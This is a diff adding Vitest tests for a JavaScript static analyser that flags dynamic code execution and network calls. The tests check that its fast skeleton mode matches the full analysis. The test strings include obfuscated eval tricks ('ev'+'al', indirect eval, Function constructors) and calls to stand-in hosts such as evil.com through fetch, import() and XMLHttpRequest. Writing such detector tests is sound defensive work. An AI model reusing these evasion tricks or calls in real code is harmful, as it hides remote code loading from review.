@@ -1,0 +1,107 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the strings are JavaScript sources under test.
+import { describe, expect, it } from 'vitest';
+import { trustedOrigins } from '../urls';
+import { analyzeJs } from './analyze';
+import { analyzeJsFast } from './fast';
+import { blankRegions, scanSkeleton } from './skeleton';
+
+const options = { sourceType: 'script' as const, trusted: trustedOrigins([]) };
+const keys = (code: string, fast: boolean) =>
+  (fast ? analyzeJsFast(code, 'a.js', options) : analyzeJs(code, 'a.js', options)).findings
+    .map((f) => `${f.rule}@${f.start}`)
+    .sort();
+
+/** Unrelated, trigger-free code around the snippet so that the skeleton has something to blank. */
+const filler = 'function pad(a, b) { var c = a + b; if (c > 1) { c = c * 2; } return [c, { k: c }]; }\n';
+
+describe('skeleton blanking is exact', () => {
+  it.each([
+    ["function g(a) { if (a) { var k = 'ev'; } return window[k + 'al'](a); }", 1],
+    ["function g(a) { let k = 'ev'; pad(a); return window[k + 'al'](a); }", 1],
+    ['var e = eval; function f(s) { return e(s); }', 1],
+    ["var w = window; function f(k) { return w['ev' + 'al'](k); }", 1],
+    ["var w = window; function f() { return w.self['ev' + 'al'](1); }", 1],
+    ["var xhr = new XMLHttpRequest(); function f() { xhr.open('GET', 'https://evil.example.net/x'); }", 1],
+    ["var s = document.createElement('script'); function f() { s.src = 'https://cdn.example.com/x.js'; }", 1],
+    ["const T = 'iframe'; function f() { return h(T); }", 1],
+    ["function f(a) { if (a) { var fn = function () {}; } return fn.constructor('x'); }", 1],
+    ["var code = 'x()'; function f(g) { code = g; } setTimeout(code);", 0],
+    ["var code = 'x()'; function f(g) { other = g; } setTimeout(code);", 1],
+    ["var w = window; function f() { var v = w; return v['ev' + 'al'](1); }", 1],
+    ['var e = eval; function f(e) { return e(1); }', 0],
+    ["const f = () => { return this['ev' + 'al'](1); };", 1],
+    ["function m() { return this['ev' + 'al'](1); }", 0],
+    ['function f() { return `${{ a: 1 }.a}`; } eval(x);', 1],
+    ['function f(s) { return /[{\'"]/.test(s); } eval(x);', 1],
+    ['function f(a, b) { return a / b / 2; } /* { */ eval(x); // }', 1],
+    ['function f(a) { return a++ / 2; } function g() { eval(x); }', 1],
+    ["const n = navigator; function f() { return n['vib' + 'rate'](1); }", 1],
+    ["const t = setTimeout; function f() { t('tick()'); }", 1],
+    ["var F = Function; function f() { return F.call(null, 'x'); }", 1],
+    ['var G = Function; function f() { return G.prototype; }', 0],
+    [`var str = '${'x'.repeat(200)}'; setTimeout(str);`, 1],
+    ['switch (a) { case 1: pad(1); break; default: eval(x); }', 1],
+    ["function f(a) { if (a) b(); else { var k = 'ev'; } return window[k + 'al'](); }", 1],
+  ])('%s', (snippet, expected) => {
+    const code = `${filler}${snippet}\n${filler}`;
+    const full = keys(code, false);
+    expect(full).toHaveLength(expected as number);
+    expect(keys(code, true)).toEqual(full);
+  });
+
+  it('blanks trigger-free bodies, comments and long strings but keeps offsets', () => {
+    const code = `${filler}/* a comment */ var s = '${'y'.repeat(100)}';\nfunction f() { return window.x; }`;
+    const skeleton = scanSkeleton(code);
+    expect(skeleton.bodies.length).toBeGreaterThan(0);
+    expect(skeleton.inert.length).toBe(4);
+    const blanked = blankRegions(code, [...skeleton.inert]);
+    expect(blanked).toHaveLength(code.length);
+    expect(blanked).not.toContain('a comment');
+    expect(blanked).toContain('window.x');
+  });
+
+  it('finds nothing to parse in a file without any trigger', () => {
+    expect(scanSkeleton('function a(b) { return b + 1; }').hasTriggers).toBe(false);
+  });
+});
+
+describe('the rule snippets stay exact inside larger code', () => {
+  const snippets = [
+    'eval(x)',
+    'window.eval(x)',
+    "globalThis['ev'+'al'](x)",
+    '(0, eval)(s)',
+    'const e = eval; e(s)',
+    'new Function("a")',
+    '[].constructor.constructor("x")()',
+    'Reflect.construct(Function, ["x"])',
+    'setTimeout("x()", 1)',
+    'const s = "x()"; setTimeout(s)',
+    "document.createElement('iframe')",
+    "el.innerHTML = '<iframe src=x>'",
+    "import('https://evil.com/x.js')",
+    'navigator.clipboard.writeText(x)',
+    "document.execCommand('copy')",
+    'const n = navigator; n.vibrate(100)',
+    "fetch('https://evil.com/api')",
+    "var x = new XMLHttpRequest(); x.open('GET', 'https://evil.com')",
+  ];
+  const wrappers = [
+    (s: string) => s,
+    (s: string) => `function outer(a) { pad(a); ${s}; return a; }`,
+    (s: string) => `function outer(a) { if (a) { pad(a); } { ${s}; } }`,
+    (s: string) => `var o = { m: function () { var q = 1; ${s}; return q; } };`,
+    (s: string) => `class K { run(v) { pad(v); ${s}; } }`,
+    (s: string) => `(() => { const z = [1, 2].map((y) => y * 2); ${s}; })();`,
+  ];
+  for (const snippet of snippets) {
+    it(snippet, () => {
+      for (const wrap of wrappers) {
+        const code = `${filler}${wrap(snippet)}\n${filler}`;
+        const full = keys(code, false);
+        expect(full.length).toBeGreaterThanOrEqual(1);
+        expect(keys(code, true)).toEqual(full);
+      }
+    });
+  }
+});
